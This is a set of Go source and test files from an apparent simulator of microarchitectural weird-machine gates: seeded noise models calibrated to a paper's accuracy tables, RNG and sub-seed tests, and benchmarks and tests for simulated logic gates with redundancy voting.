func (r *RNG) SetState(s uint64) {
	if s == 0 {
		r.Reseed(0)
		return
	}
	r.state = s
}

// SubSeed derives the seed of an independent random stream from one
// root seed: stream i is the i-th output of a splitmix64 generator
// whose state starts at root. Sub-seeds are what let a job scheduler
// fan one experiment seed out across parallel workers and still get
// results byte-identical to a serial run — each unit of work draws from
// SubSeed(root, i) instead of from a shared, order-dependent stream.
// Deriving twice with the same (root, stream) yields the same seed;
// nearby streams (i, i+1) share no structure the xorshift64* generator
// can resurface.
func SubSeed(root, stream uint64) uint64 {
	z := root + (stream+1)*0x9e3779b97f4a7c15
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

// Uint64 returns the next 64 random bits.
func (r *RNG) Uint64() uint64 {
	x := r.state
	x ^= x >> 12
	x ^= x << 25
	x ^= x >> 27
	r.state = x
	return x * 0x2545f4914f6cdd1d
}

// Uint32 returns the next 32 random bits.
func (r *RNG) Uint32() uint32 { return uint32(r.Uint64() >> 32) }

// Intn returns a uniformly distributed int in [0, n). It panics if n <= 0.
func (r *RNG) Intn(n int) int {
	if n <= 0 {
		panic("noise: Intn with non-positive n")
	}
	return int(r.Uint64() % uint64(n))
}

// Int63 returns a non-negative random int64.
func (r *RNG) Int63() int64 { return int64(r.Uint64() >> 1) }

// Float64 returns a uniformly distributed float64 in [0, 1).
func (r *RNG) Float64() float64 {
	return float64(r.Uint64()>>11) / (1 << 53)
}

// Bool returns true with probability p.
func (r *RNG) Bool(p float64) bool {
	if p <= 0 {
		return false
	}
	if p >= 1 {
		return true
	}
	return r.Float64() < p
}

// Bit returns a uniformly random 0/1 value.
func (r *RNG) Bit() int { return int(r.Uint64() >> 63) }

// NormFloat64 returns a normally distributed float64 with mean 0 and
// standard deviation 1, using the Box–Muller transform.
func (r *RNG) NormFloat64() float64 {
	// Draw u1 in (0,1] to avoid log(0).
	u1 := 1.0 - r.Float64()
	u2 := r.Float64()
	return math.Sqrt(-2*math.Log(u1)) * math.Cos(2*math.Pi*u2)
}

// Bytes fills b with random bytes.
func (r *RNG) Bytes(b []byte) {
	for i := range b {
		b[i] = byte(r.Uint64())
	}
}

// Perm returns a random permutation of [0, n).
func (r *RNG) Perm(n int) []int {
	p := make([]int, n)
	for i := range p {
		j := r.Intn(i + 1)
		p[i] = p[j]
		p[j] = i
	}
	return p
}

// Config describes the intensity of every modelled noise process. The
// zero value is a perfectly quiet machine (fully deterministic timing).
type Config struct {
	// TimerJitterStdDev is the standard deviation, in cycles, of
	// Gaussian jitter added to every timed read (rdtscp-style
	// measurement).
	TimerJitterStdDev float64

	// OutlierProb is the probability that a timed read is hit by a
	// modelled interrupt/scheduler event, adding a uniform delay in
	// [OutlierMin, OutlierMax] cycles. This produces the heavy right
	// tails of the paper's Tables 6 and 7 (maxima around 20k cycles).
	OutlierProb float64
	OutlierMin  int64
	OutlierMax  int64

	// EvictionProb is the per-gate-activation probability that
	// unrelated system activity evicts one of the gate's data cache
	// lines, flipping a weird-register bit from 1 to 0.
	EvictionProb float64

	// StrayFillProb is the per-gate-activation probability that a
	// prefetcher or unrelated access brings one of the gate's lines
	// into the cache, flipping a weird-register bit from 0 to 1.
	StrayFillProb float64

	// SpuriousAbortProb is the per-transaction probability that a TSX
	// region aborts for an external reason (interrupt, conflicting
	// access), destroying the gate's computation. These are the
	// "TSX Aborts" counted in the paper's Table 8.
	SpuriousAbortProb float64

	// TrainFailProb is the per-activation probability that branch
	// predictor training does not take effect (e.g. destructive
	// aliasing from other branches).
	TrainFailProb float64

	// TSXChainBreakProb is the per-window probability that the
	// post-fault transient window collapses early (fault detected on a
	// warm exception path), cutting the gate's dependent-load chain.
	// It is the dominant error source of the TSX gates and is what
	// puts their accuracy in the paper's 0.92–0.99 band (Table 8)
	// while BP/IC gates stay near-perfect (Table 5).
	TSXChainBreakProb float64

	// WindowJitterStdDev is the standard deviation, in cycles, of the
	// length of speculative windows (both mispredict windows and TSX
	// post-fault windows).
	WindowJitterStdDev float64

	// MemJitterStdDev is the standard deviation, in cycles, of DRAM
	// access latency.
	MemJitterStdDev float64

	// MemLatencyDelta is a constant cycle shift applied to every
	// DRAM-served data access, modelling slow microarchitectural drift —
	// thermal throttling or frequency scaling changing the core-cycle
	// cost of a fixed-nanosecond DRAM round trip — relative to the
	// calibrated hit/miss threshold. Negative values pull miss latencies
	// toward the threshold, which is exactly the degradation a gate-
	// health drift detector must catch. Unlike the jitter processes it
	// draws nothing from the RNG, so flipping it mid-run leaves every
	// noise stream pinned.
	MemLatencyDelta int64
}

// Quiet returns a configuration with every noise process disabled. Gate
// behaviour under Quiet is fully deterministic, which unit tests rely on.
func Quiet() Config { return Config{} }

// Paper returns the noise configuration calibrated so that the simulator
// reproduces the accuracy bands and timing distributions reported in the
// paper (Tables 2, 5, 6, 7, 8): BP/IC gates ≈ 0.99998 accurate, TSX gates
// 0.92–0.99, timed-read medians ≈ 36 (hit) and ≈ 222 (miss) cycles with
// rare outliers up to ~20k cycles.
func Paper() Config {
	return Config{
		TimerJitterStdDev:  1.2,
		OutlierProb:        0.004,
		OutlierMin:         4500,
		OutlierMax:         20500,
		EvictionProb:       0.00001,
		StrayFillProb:      0.000005,
		SpuriousAbortProb:  0.00008,
		TrainFailProb:      0.00001,
		TSXChainBreakProb:  0.045,
		WindowJitterStdDev: 9,
		MemJitterStdDev:    4,
	}
}

// PaperIsolated returns the Paper configuration with the interrupt/
// scheduler outlier rate reduced to what the paper's §6.1 setup achieves
// (isolated physical core, pinned frequency, sibling hyperthread kept
// busy): timed reads are almost never hit by an interrupt, which is what
// lets the BP/IC gate accuracies reach the 0.9999+ of Table 5 and the
// SHA-1 run of Table 4 stay vote-correctable.
func PaperIsolated() Config {
	cfg := Paper()
	cfg.OutlierProb = 0.0002
	return cfg
}

// Replayable returns the PaperIsolated profile with the two
// history-coupled jitter processes (window placement, DRAM latency)
// disabled. Those two draw from the noise stream in a way that depends
// on how much earlier work the machine performed, so disabling them is
// what makes a result a pure function of (machine construction, pinned
// sub-seed): the property behind the engine's byte-identical
// serial-vs-pooled guarantee and circopt's order-independent gate
// scheduling. Everything else — timer jitter, outliers, evictions,
// spurious aborts — stays at the paper's isolated-core levels.
func Replayable() Config {
	cfg := PaperIsolated()
	cfg.WindowJitterStdDev = 0
	cfg.MemJitterStdDev = 0
	return cfg
}

// Noisy returns a deliberately hostile configuration (busy machine, no
// core isolation), used by ablation benchmarks to show gate accuracy
// degrading without the paper's §6.1 system setup.
func Noisy() Config {
	return Config{
		TimerJitterStdDev:  6,
		OutlierProb:        0.02,
		OutlierMin:         2000,
		OutlierMax:         40000,
		EvictionProb:       0.03,
		StrayFillProb:      0.01,
		SpuriousAbortProb:  0.004,
		TrainFailProb:      0.002,
		TSXChainBreakProb:  0.18,
		WindowJitterStdDev: 35,
		MemJitterStdDev:    15,
	}
}

// Source combines an RNG with a Config and provides the sampling helpers
// the simulator calls at each noise injection point.
type Source struct {
	rng *RNG
	cfg Config
}

// NewSource returns a Source drawing from a fresh RNG with the given seed.
func NewSource(seed uint64, cfg Config) *Source {
	return &Source{rng: NewRNG(seed), cfg: cfg}
}

// Config returns the source's noise configuration.
func (s *Source) Config() Config { return s.cfg }

// SetConfig replaces the noise configuration, keeping the RNG stream.
func (s *Source) SetConfig(cfg Config) { s.cfg = cfg }

// RNG exposes the underlying generator for callers that need raw
// randomness tied to the same seed (e.g. random gate inputs).
func (s *Source) RNG() *RNG { return s.rng }

// Reseed repositions the source's random stream to what a fresh source
// built with seed would produce, keeping the configuration. Job
// schedulers use this to pin a machine's noise to a per-job sub-seed so
// the job's draws do not depend on what ran on the machine before it.
func (s *Source) Reseed(seed uint64) { s.rng.Reseed(seed) }

// TimerJitter samples the cycle error of one timed read; it may be
// negative but never drives a measurement below zero at the call site.
func (s *Source) TimerJitter() int64 {
	if s.cfg.TimerJitterStdDev == 0 {
		return 0
	}
	return int64(s.rng.NormFloat64() * s.cfg.TimerJitterStdDev)
}

// Outlier reports whether this timed read is hit by an interrupt-style
// event and, if so, the extra delay in cycles.
func (s *Source) Outlier() (int64, bool) {
	if !s.rng.Bool(s.cfg.OutlierProb) {
		return 0, false
	}
	span := s.cfg.OutlierMax - s.cfg.OutlierMin
	if span <= 0 {
		return s.cfg.OutlierMin, true
	}
	return s.cfg.OutlierMin + s.rng.Int63()%span, true
}

// Evicted reports whether stray system activity evicts a gate line
// during this activation.
func (s *Source) Evicted() bool { return s.rng.Bool(s.cfg.EvictionProb) }

// StrayFill reports whether stray system activity caches a gate line
// during this activation.
func (s *Source) StrayFill() bool { return s.rng.Bool(s.cfg.StrayFillProb) }

// SpuriousAbort reports whether the current TSX transaction is aborted
// by an external event.
func (s *Source) SpuriousAbort() bool { return s.rng.Bool(s.cfg.SpuriousAbortProb) }

// TrainFail reports whether a branch-training sequence fails to take.
func (s *Source) TrainFail() bool { return s.rng.Bool(s.cfg.TrainFailProb) }

// ChainBreak reports whether the current post-fault transient window
// collapses before the gate's dependent chain can issue.
func (s *Source) ChainBreak() bool { return s.rng.Bool(s.cfg.TSXChainBreakProb) }

// WindowJitter samples the cycle deviation of one speculative window.
func (s *Source) WindowJitter() int64 {
	if s.cfg.WindowJitterStdDev == 0 {
		return 0
	}
	return int64(s.rng.NormFloat64() * s.cfg.WindowJitterStdDev)
}

// MemJitter samples the cycle deviation of one DRAM access.
func (s *Source) MemJitter() int64 {
	if s.cfg.MemJitterStdDev == 0 {
		return 0
	}
	return int64(s.rng.NormFloat64() * s.cfg.MemJitterStdDev)
}

// MemDelta returns the constant DRAM latency shift. It never draws from
// the RNG: drift is a property of the machine, not of any one access.
func (s *Source) MemDelta() int64 { return s.cfg.MemLatencyDelta }
