package noise

import (
	"math"
	"testing"
	"testing/quick"
)

func TestRNGDeterminism(t *testing.T) {
	a, b := NewRNG(42), NewRNG(42)
	for i := 0; i < 100; i++ {
		if a.Uint64() != b.Uint64() {
			t.Fatal("same seed diverged")
		}
	}
	c := NewRNG(43)
	same := 0
	a = NewRNG(42)
	for i := 0; i < 100; i++ {
		if a.Uint64() == c.Uint64() {
			same++
		}
	}
	if same > 2 {
		t.Errorf("different seeds collided %d/100 times", same)
	}
}

func TestZeroSeedWorks(t *testing.T) {
	r := NewRNG(0)
	if r.Uint64() == 0 && r.Uint64() == 0 {
		t.Error("zero seed produced a dead stream")
	}
}

func TestFloat64Range(t *testing.T) {
	r := NewRNG(7)
	for i := 0; i < 10000; i++ {
		f := r.Float64()
		if f < 0 || f >= 1 {
			t.Fatalf("Float64 = %f", f)
		}
	}
}

func TestIntnRange(t *testing.T) {
	r := NewRNG(8)
	counts := make([]int, 10)
	for i := 0; i < 10000; i++ {
		counts[r.Intn(10)]++
	}
	for v, c := range counts {
		if c < 700 || c > 1300 {
			t.Errorf("Intn(10) value %d drawn %d/10000 times", v, c)
		}
	}
}

func TestIntnPanicsOnNonPositive(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("Intn(0) did not panic")
		}
	}()
	NewRNG(1).Intn(0)
}

func TestBoolProbabilities(t *testing.T) {
	r := NewRNG(9)
	if r.Bool(0) {
		t.Error("Bool(0) returned true")
	}
	if !r.Bool(1) {
		t.Error("Bool(1) returned false")
	}
	n := 0
	for i := 0; i < 100000; i++ {
		if r.Bool(0.25) {
			n++
		}
	}
	if n < 23500 || n > 26500 {
		t.Errorf("Bool(0.25) fired %d/100000", n)
	}
}

func TestNormFloat64Moments(t *testing.T) {
	r := NewRNG(10)
	var sum, ss float64
	const n = 200000
	for i := 0; i < n; i++ {
		x := r.NormFloat64()
		sum += x
		ss += x * x
	}
	mean := sum / n
	variance := ss/n - mean*mean
	if math.Abs(mean) > 0.02 {
		t.Errorf("mean = %f", mean)
	}
	if math.Abs(variance-1) > 0.05 {
		t.Errorf("variance = %f", variance)
	}
}

func TestBitBalance(t *testing.T) {
	r := NewRNG(11)
	ones := 0
	for i := 0; i < 10000; i++ {
		ones += r.Bit()
	}
	if ones < 4700 || ones > 5300 {
		t.Errorf("Bit() ones = %d/10000", ones)
	}
}

func TestPermIsPermutation(t *testing.T) {
	f := func(seed uint64) bool {
		r := NewRNG(seed)
		p := r.Perm(20)
		seen := make([]bool, 20)
		for _, v := range p {
			if v < 0 || v >= 20 || seen[v] {
				return false
			}
			seen[v] = true
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestSourceQuietIsSilent(t *testing.T) {
	s := NewSource(1, Quiet())
	for i := 0; i < 1000; i++ {
		if s.TimerJitter() != 0 || s.WindowJitter() != 0 || s.MemJitter() != 0 {
			t.Fatal("quiet source produced jitter")
		}
		if _, hit := s.Outlier(); hit {
			t.Fatal("quiet source produced an outlier")
		}
		if s.Evicted() || s.StrayFill() || s.SpuriousAbort() || s.TrainFail() || s.ChainBreak() {
			t.Fatal("quiet source fired an event")
		}
	}
}

func TestSourceOutlierBounds(t *testing.T) {
	cfg := Paper()
	cfg.OutlierProb = 1
	s := NewSource(2, cfg)
	for i := 0; i < 1000; i++ {
		d, hit := s.Outlier()
		if !hit {
			t.Fatal("OutlierProb=1 missed")
		}
		if d < cfg.OutlierMin || d > cfg.OutlierMax {
			t.Fatalf("outlier %d outside [%d,%d]", d, cfg.OutlierMin, cfg.OutlierMax)
		}
	}
}

func TestSourceRates(t *testing.T) {
	cfg := Config{SpuriousAbortProb: 0.1, TSXChainBreakProb: 0.3}
	s := NewSource(3, cfg)
	aborts, breaks := 0, 0
	const n = 100000
	for i := 0; i < n; i++ {
		if s.SpuriousAbort() {
			aborts++
		}
		if s.ChainBreak() {
			breaks++
		}
	}
	if aborts < 9000 || aborts > 11000 {
		t.Errorf("abort rate %d/%d", aborts, n)
	}
	if breaks < 28500 || breaks > 31500 {
		t.Errorf("chain-break rate %d/%d", breaks, n)
	}
}

func TestProfilesOrdering(t *testing.T) {
	p, i, n := Paper(), PaperIsolated(), Noisy()
	if i.OutlierProb >= p.OutlierProb {
		t.Error("isolated profile should have fewer outliers than paper")
	}
	if n.TSXChainBreakProb <= p.TSXChainBreakProb {
		t.Error("noisy profile should break chains more often")
	}
	if i.TSXChainBreakProb != p.TSXChainBreakProb {
		t.Error("isolation should not change chain-break rate")
	}
}

func TestSetConfigKeepsStream(t *testing.T) {
	s := NewSource(5, Quiet())
	_ = s.RNG().Uint64()
	s.SetConfig(Paper())
	if s.Config().OutlierProb != Paper().OutlierProb {
		t.Error("SetConfig lost the config")
	}
}

func TestStateRoundTrip(t *testing.T) {
	r := NewRNG(12)
	for i := 0; i < 17; i++ {
		r.Uint64()
	}
	saved := r.State()
	want := []uint64{r.Uint64(), r.Uint64(), r.Uint64()}

	// Wander off: reseed elsewhere and draw, as a recalibration would.
	r.Reseed(99)
	for i := 0; i < 100; i++ {
		r.Uint64()
	}

	r.SetState(saved)
	for i, w := range want {
		if got := r.Uint64(); got != w {
			t.Fatalf("draw %d after SetState = %d, want %d", i, got, w)
		}
	}
}

func TestSetStateZeroDoesNotWedge(t *testing.T) {
	r := NewRNG(1)
	r.SetState(0)
	if r.Uint64() == 0 && r.Uint64() == 0 {
		t.Error("SetState(0) produced a dead stream")
	}
}

func TestMemDeltaDrawsNothing(t *testing.T) {
	cfg := Quiet()
	cfg.MemLatencyDelta = -45
	s := NewSource(6, cfg)
	before := s.RNG().State()
	for i := 0; i < 100; i++ {
		if d := s.MemDelta(); d != -45 {
			t.Fatalf("MemDelta = %d, want -45", d)
		}
	}
	if s.RNG().State() != before {
		t.Error("MemDelta consumed RNG draws — drift must not perturb noise streams")
	}
	// Presets carry no drift.
	for _, c := range []Config{Quiet(), Paper(), PaperIsolated(), Noisy()} {
		if c.MemLatencyDelta != 0 {
			t.Error("preset config has nonzero MemLatencyDelta")
		}
	}
}
