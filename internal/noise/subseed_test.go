package noise

import "testing"

func TestSubSeedDistinctAcrossStreams(t *testing.T) {
	const root = 2021
	seen := make(map[uint64]uint64)
	for i := uint64(0); i < 10000; i++ {
		s := SubSeed(root, i)
		if prev, dup := seen[s]; dup {
			t.Fatalf("SubSeed(%d, %d) == SubSeed(%d, %d) == %#x", root, i, root, prev, s)
		}
		seen[s] = i
	}
}

func TestSubSeedDistinctAcrossRoots(t *testing.T) {
	// The same stream index under nearby roots must not collide —
	// engine instances with different seeds share job numbering.
	seen := make(map[uint64]uint64)
	for root := uint64(0); root < 1000; root++ {
		s := SubSeed(root, 1)
		if prev, dup := seen[s]; dup {
			t.Fatalf("SubSeed(%d, 1) == SubSeed(%d, 1)", root, prev)
		}
		seen[s] = root
	}
}

// TestSubSeedStreamIndependence checks that the RNG streams grown from
// adjacent sub-seeds look unrelated: bitwise agreement between streams
// stays near the 50% of independent coins. Sequentially seeded plain
// LCGs fail exactly this kind of test; the splitmix-style finalizer is
// what buys the independence.
func TestSubSeedStreamIndependence(t *testing.T) {
	const draws = 1000
	for stream := uint64(0); stream < 8; stream++ {
		a := NewRNG(SubSeed(2021, stream))
		b := NewRNG(SubSeed(2021, stream+1))
		agree := 0
		for i := 0; i < draws; i++ {
			x, y := a.Uint64(), b.Uint64()
			for bit := 0; bit < 64; bit++ {
				if (x>>bit)&1 == (y>>bit)&1 {
					agree++
				}
			}
		}
		frac := float64(agree) / float64(draws*64)
		if frac < 0.48 || frac > 0.52 {
			t.Errorf("streams %d and %d agree on %.4f of bits, want ~0.5", stream, stream+1, frac)
		}
	}
}

// TestSubSeedAttemptDerivation exercises the engine's two-level
// derivation — SubSeed(SubSeed(root, job), attempt) — for collisions
// across a plausible job×attempt grid.
func TestSubSeedAttemptDerivation(t *testing.T) {
	seen := make(map[uint64]bool)
	for job := uint64(0); job < 200; job++ {
		js := SubSeed(2021, job)
		for attempt := uint64(0); attempt < 5; attempt++ {
			s := SubSeed(js, attempt)
			if seen[s] {
				t.Fatalf("attempt seed collision at job %d attempt %d", job, attempt)
			}
			seen[s] = true
		}
	}
}

func TestReseedRestartsStream(t *testing.T) {
	r := NewRNG(7)
	want := make([]uint64, 16)
	for i := range want {
		want[i] = r.Uint64()
	}
	r.Uint64() // drift past the recorded prefix
	r.Reseed(7)
	for i, w := range want {
		if got := r.Uint64(); got != w {
			t.Fatalf("draw %d after Reseed = %#x, want %#x", i, got, w)
		}
	}
}

func TestSourceReseedRestartsStream(t *testing.T) {
	cfg := Paper()
	a := NewSource(99, cfg)
	b := NewSource(123, cfg)
	wantT := make([]int64, 8)
	wantBool := make([]bool, 8)
	for i := range wantT {
		wantT[i] = a.TimerJitter()
		wantBool[i] = a.Evicted()
	}
	b.Reseed(99)
	for i := range wantT {
		if got := b.TimerJitter(); got != wantT[i] {
			t.Fatalf("TimerJitter %d after Reseed = %d, want %d", i, got, wantT[i])
		}
		if got := b.Evicted(); got != wantBool[i] {
			t.Fatalf("Evicted %d after Reseed = %v, want %v", i, got, wantBool[i])
		}
	}
}
