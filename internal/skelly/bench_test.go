package skelly

import (
	"testing"

	"uwm/internal/core"
	"uwm/internal/noise"
)

func benchSkelly(b *testing.B, cfg Config) *Skelly {
	b.Helper()
	m, err := core.NewMachine(core.Options{Seed: 1, TrainIterations: 3})
	if err != nil {
		b.Fatal(err)
	}
	s, err := New(m, cfg)
	if err != nil {
		b.Fatal(err)
	}
	return s
}

// BenchmarkGateOpNoRedundancy measures one logical AND at s=1/n=1.
func BenchmarkGateOpNoRedundancy(b *testing.B) {
	s := benchSkelly(b, FastConfig())
	rng := noise.NewRNG(1)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := s.And(rng.Bit(), rng.Bit()); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkGateOpPaperRedundancy measures one logical AND at the
// paper's s=10/k=3/n=5 (50 weird-gate activations per op).
func BenchmarkGateOpPaperRedundancy(b *testing.B) {
	s := benchSkelly(b, DefaultConfig())
	rng := noise.NewRNG(1)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := s.And(rng.Bit(), rng.Bit()); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkXorComposite measures the 3-gate XOR composition.
func BenchmarkXorComposite(b *testing.B) {
	s := benchSkelly(b, FastConfig())
	rng := noise.NewRNG(1)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := s.Xor(rng.Bit(), rng.Bit()); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkFullAdder measures the §5.2 full adder (7 gate ops).
func BenchmarkFullAdder(b *testing.B) {
	s := benchSkelly(b, FastConfig())
	rng := noise.NewRNG(1)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, _, err := s.FullAdder(rng.Bit(), rng.Bit(), rng.Bit()); err != nil {
			b.Fatal(err)
		}
	}
}
