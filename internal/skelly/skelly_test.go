package skelly

import (
	"errors"
	"testing"
	"testing/quick"

	"uwm/internal/core"
	"uwm/internal/cpu"
	"uwm/internal/noise"
)

func fastSkelly(t *testing.T) *Skelly {
	t.Helper()
	m, err := core.NewMachine(core.Options{Seed: 11, TrainIterations: 3})
	if err != nil {
		t.Fatal(err)
	}
	s, err := New(m, FastConfig())
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestBitPrimitives(t *testing.T) {
	s := fastSkelly(t)
	for a := 0; a < 2; a++ {
		for b := 0; b < 2; b++ {
			if v, err := s.And(a, b); err != nil || v != a&b {
				t.Errorf("And(%d,%d)=%d,%v", a, b, v, err)
			}
			if v, err := s.Or(a, b); err != nil || v != a|b {
				t.Errorf("Or(%d,%d)=%d,%v", a, b, v, err)
			}
			if v, err := s.Nand(a, b); err != nil || v != 1-a&b {
				t.Errorf("Nand(%d,%d)=%d,%v", a, b, v, err)
			}
			if v, err := s.Xor(a, b); err != nil || v != a^b {
				t.Errorf("Xor(%d,%d)=%d,%v", a, b, v, err)
			}
		}
	}
	if v, err := s.Not(0); err != nil || v != 1 {
		t.Errorf("Not(0)=%d,%v", v, err)
	}
	if v, err := s.Not(1); err != nil || v != 0 {
		t.Errorf("Not(1)=%d,%v", v, err)
	}
}

func TestFullAdderExhaustive(t *testing.T) {
	s := fastSkelly(t)
	for a := 0; a < 2; a++ {
		for b := 0; b < 2; b++ {
			for c := 0; c < 2; c++ {
				sum, carry, err := s.FullAdder(a, b, c)
				if err != nil {
					t.Fatal(err)
				}
				if want := a + b + c; sum != want&1 || carry != want>>1 {
					t.Errorf("FullAdder(%d,%d,%d) = (%d,%d)", a, b, c, sum, carry)
				}
			}
		}
	}
}

func TestAndAndOrExhaustive(t *testing.T) {
	s := fastSkelly(t)
	for v := 0; v < 16; v++ {
		a, b, c, d := v&1, v>>1&1, v>>2&1, v>>3&1
		got, err := s.AndAndOr(a, b, c, d)
		if err != nil {
			t.Fatal(err)
		}
		if want := a&b | c&d; got != want {
			t.Errorf("AndAndOr(%d,%d,%d,%d)=%d want %d", a, b, c, d, got, want)
		}
	}
}

func TestWord32RoundTrip(t *testing.T) {
	f := func(v uint32) bool { return Word32(Bits32(v)) == v }
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestRotShift(t *testing.T) {
	f := func(v uint32, n uint8) bool {
		k := uint(n) & 31
		return RotL32(v, k) == v<<k|v>>((32-k)&31) && ShL32(v, k) == v<<k
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func Test32BitOps(t *testing.T) {
	s := fastSkelly(t)
	cases := []struct{ a, b uint32 }{
		{0, 0},
		{0xffffffff, 0},
		{0xdeadbeef, 0x12345678},
		{0x80000000, 0x80000000},
		{1, 0xffffffff},
	}
	for _, c := range cases {
		if v, err := s.And32(c.a, c.b); err != nil || v != c.a&c.b {
			t.Errorf("And32(%#x,%#x)=%#x,%v", c.a, c.b, v, err)
		}
		if v, err := s.Or32(c.a, c.b); err != nil || v != c.a|c.b {
			t.Errorf("Or32(%#x,%#x)=%#x,%v", c.a, c.b, v, err)
		}
		if v, err := s.Xor32(c.a, c.b); err != nil || v != c.a^c.b {
			t.Errorf("Xor32(%#x,%#x)=%#x,%v", c.a, c.b, v, err)
		}
		if v, err := s.Add32(c.a, c.b); err != nil || v != c.a+c.b {
			t.Errorf("Add32(%#x,%#x)=%#x,%v", c.a, c.b, v, err)
		}
	}
	if v, err := s.Not32(0xdeadbeef); err != nil || v != ^uint32(0xdeadbeef) {
		t.Errorf("Not32 = %#x, %v", v, err)
	}
}

// TestVotingRecoversFromNoise checks that the paper's s/k/n redundancy
// turns noisy single-gate executions into reliable logical operations.
func TestVotingRecoversFromNoise(t *testing.T) {
	if testing.Short() {
		t.Skip("redundancy sweep is slow")
	}
	m, err := core.NewMachine(core.Options{Seed: 5, Noise: noise.PaperIsolated(), TrainIterations: 3})
	if err != nil {
		t.Fatal(err)
	}
	s, err := New(m, Config{S: 3, K: 2, N: 3, Verify: true})
	if err != nil {
		t.Fatal(err)
	}
	rng := noise.NewRNG(77)
	wrong := 0
	const ops = 600
	for i := 0; i < ops; i++ {
		a, b := rng.Bit(), rng.Bit()
		v, err := s.Xor(a, b)
		if err != nil {
			t.Fatal(err)
		}
		if v != a^b {
			wrong++
		}
	}
	if wrong > 2 {
		t.Errorf("voted XOR wrong %d/%d times; redundancy should make errors rare", wrong, ops)
	}
	ctr := s.Counters("AND")
	if ctr.VoteOps == 0 || ctr.MedianOps != ctr.VoteOps*3 {
		t.Errorf("instrumentation inconsistent: %+v", ctr)
	}
}

func TestCountersAndConfigValidation(t *testing.T) {
	s := fastSkelly(t)
	if _, err := s.And(1, 1); err != nil {
		t.Fatal(err)
	}
	if c := s.Counters("AND"); c.VoteOps != 1 || c.MedianOps != 1 {
		t.Errorf("counters = %+v", c)
	}
	s.ResetCounters()
	if c := s.Counters("AND"); c.VoteOps != 0 {
		t.Errorf("reset failed: %+v", c)
	}
	if _, err := New(s.Machine(), Config{S: 0, K: 1, N: 1}); err == nil {
		t.Error("expected error for s=0")
	}
	if _, err := New(s.Machine(), Config{S: 1, K: 2, N: 1}); err == nil {
		t.Error("expected error for k>n")
	}
}

// TestAbortOnError surfaces vote failures as errors, the paper's
// "allow skelly to abort when an incorrect logical operation is
// detected" mode. A zero-length TSX window makes every gate output 0,
// so AND(1,1) must trip it.
func TestAbortOnError(t *testing.T) {
	cfg := cpu.DefaultConfig()
	cfg.TSXWindow = 0 // irrelevant for BP gates but harmless
	m, err := core.NewMachine(core.Options{Seed: 19, TrainIterations: 1, CPU: &cfg})
	if err != nil {
		t.Fatal(err)
	}
	// Single-iteration training cannot re-flip the 2-bit counters
	// reliably, so some ops vote wrong; AbortOnError must report it.
	s, err := New(m, Config{S: 1, K: 1, N: 1, Verify: true, AbortOnError: true})
	if err != nil {
		t.Fatal(err)
	}
	var gateErr *GateError
	sawError := false
	for i := 0; i < 64 && !sawError; i++ {
		_, err := s.And(i&1, 1-i&1&1)
		if err != nil {
			if !errors.As(err, &gateErr) {
				t.Fatalf("unexpected error type %T: %v", err, err)
			}
			sawError = true
		}
		_, err = s.Nand(1, 1)
		if err != nil {
			if !errors.As(err, &gateErr) {
				t.Fatalf("unexpected error type %T: %v", err, err)
			}
			sawError = true
		}
	}
	if !sawError {
		t.Skip("degraded config happened to stay correct; acceptable")
	}
	if gateErr.Gate == "" || gateErr.Error() == "" {
		t.Errorf("gate error missing details: %+v", gateErr)
	}
}

// TestOnVoteErrorHook verifies the diagnostics hook fires.
func TestOnVoteErrorHook(t *testing.T) {
	m, err := core.NewMachine(core.Options{Seed: 23, TrainIterations: 1})
	if err != nil {
		t.Fatal(err)
	}
	s, err := New(m, Config{S: 1, K: 1, N: 1, Verify: true})
	if err != nil {
		t.Fatal(err)
	}
	fired := 0
	s.OnVoteError = func(gate string, in []int, got, want int) { fired++ }
	for i := 0; i < 64; i++ {
		if _, err := s.And(1, i&1); err != nil {
			t.Fatal(err)
		}
	}
	c := s.Counters("AND")
	if int(c.VoteOps-c.VoteCorrect) != fired {
		t.Errorf("hook fired %d times for %d errors", fired, c.VoteOps-c.VoteCorrect)
	}
}
