package skelly

import (
	"fmt"

	"uwm/internal/circopt"
	"uwm/internal/core"
	"uwm/internal/noise"
)

// GateOp executes one netlist gate operation, mapping the netlist ops
// onto the library's weird gates: AND and OR run their BP gates
// directly, NOT runs NAND(a, a) (§3.2's universality), and ASSIGN is
// pure wiring — no activation, the input returned unchanged. Every
// non-assign result is stored into an architecturally visible wire
// slot by the plan evaluators, so it counts against the §5.2
// visibility metric. GateOp is circopt.GateLib's execution surface.
func (s *Skelly) GateOp(op core.CircuitOp, a, b int) (int, error) {
	switch op {
	case core.CircAssign:
		return a, nil
	case core.CircAnd:
		v, err := s.And(a, b)
		if err != nil {
			return 0, err
		}
		s.MarkVisible(1)
		return v, nil
	case core.CircOr:
		v, err := s.Or(a, b)
		if err != nil {
			return 0, err
		}
		s.MarkVisible(1)
		return v, nil
	case core.CircNot:
		return s.Not(a)
	default:
		return 0, fmt.Errorf("skelly: unsupported netlist op %v", op)
	}
}

// EvalSpec evaluates a netlist serially and unoptimized, gate by gate
// in source order — the baseline circuit-evaluation path. Noise
// streams follow circopt's value-number discipline so the walk stays
// byte-aligned with optimized plans of the same netlist.
func (s *Skelly) EvalSpec(spec *core.CircuitSpec, inputs []int, evalSeed uint64) ([]int, error) {
	return circopt.EvalSpec(s, spec, inputs, evalSeed)
}

// EvalPlan evaluates an optimized circopt plan serially on this
// library's machine. Byte-identical to a pooled evaluation of the
// same plan (see circopt.Pool).
func (s *Skelly) EvalPlan(plan *circopt.Plan, inputs []int, evalSeed uint64) ([]int, error) {
	return circopt.EvalPlan(s, plan, inputs, evalSeed)
}

// EvalPlanBatch evaluates a batch of input vectors against one plan,
// deriving vector v's seed as SubSeed(evalSeed, v) — the same
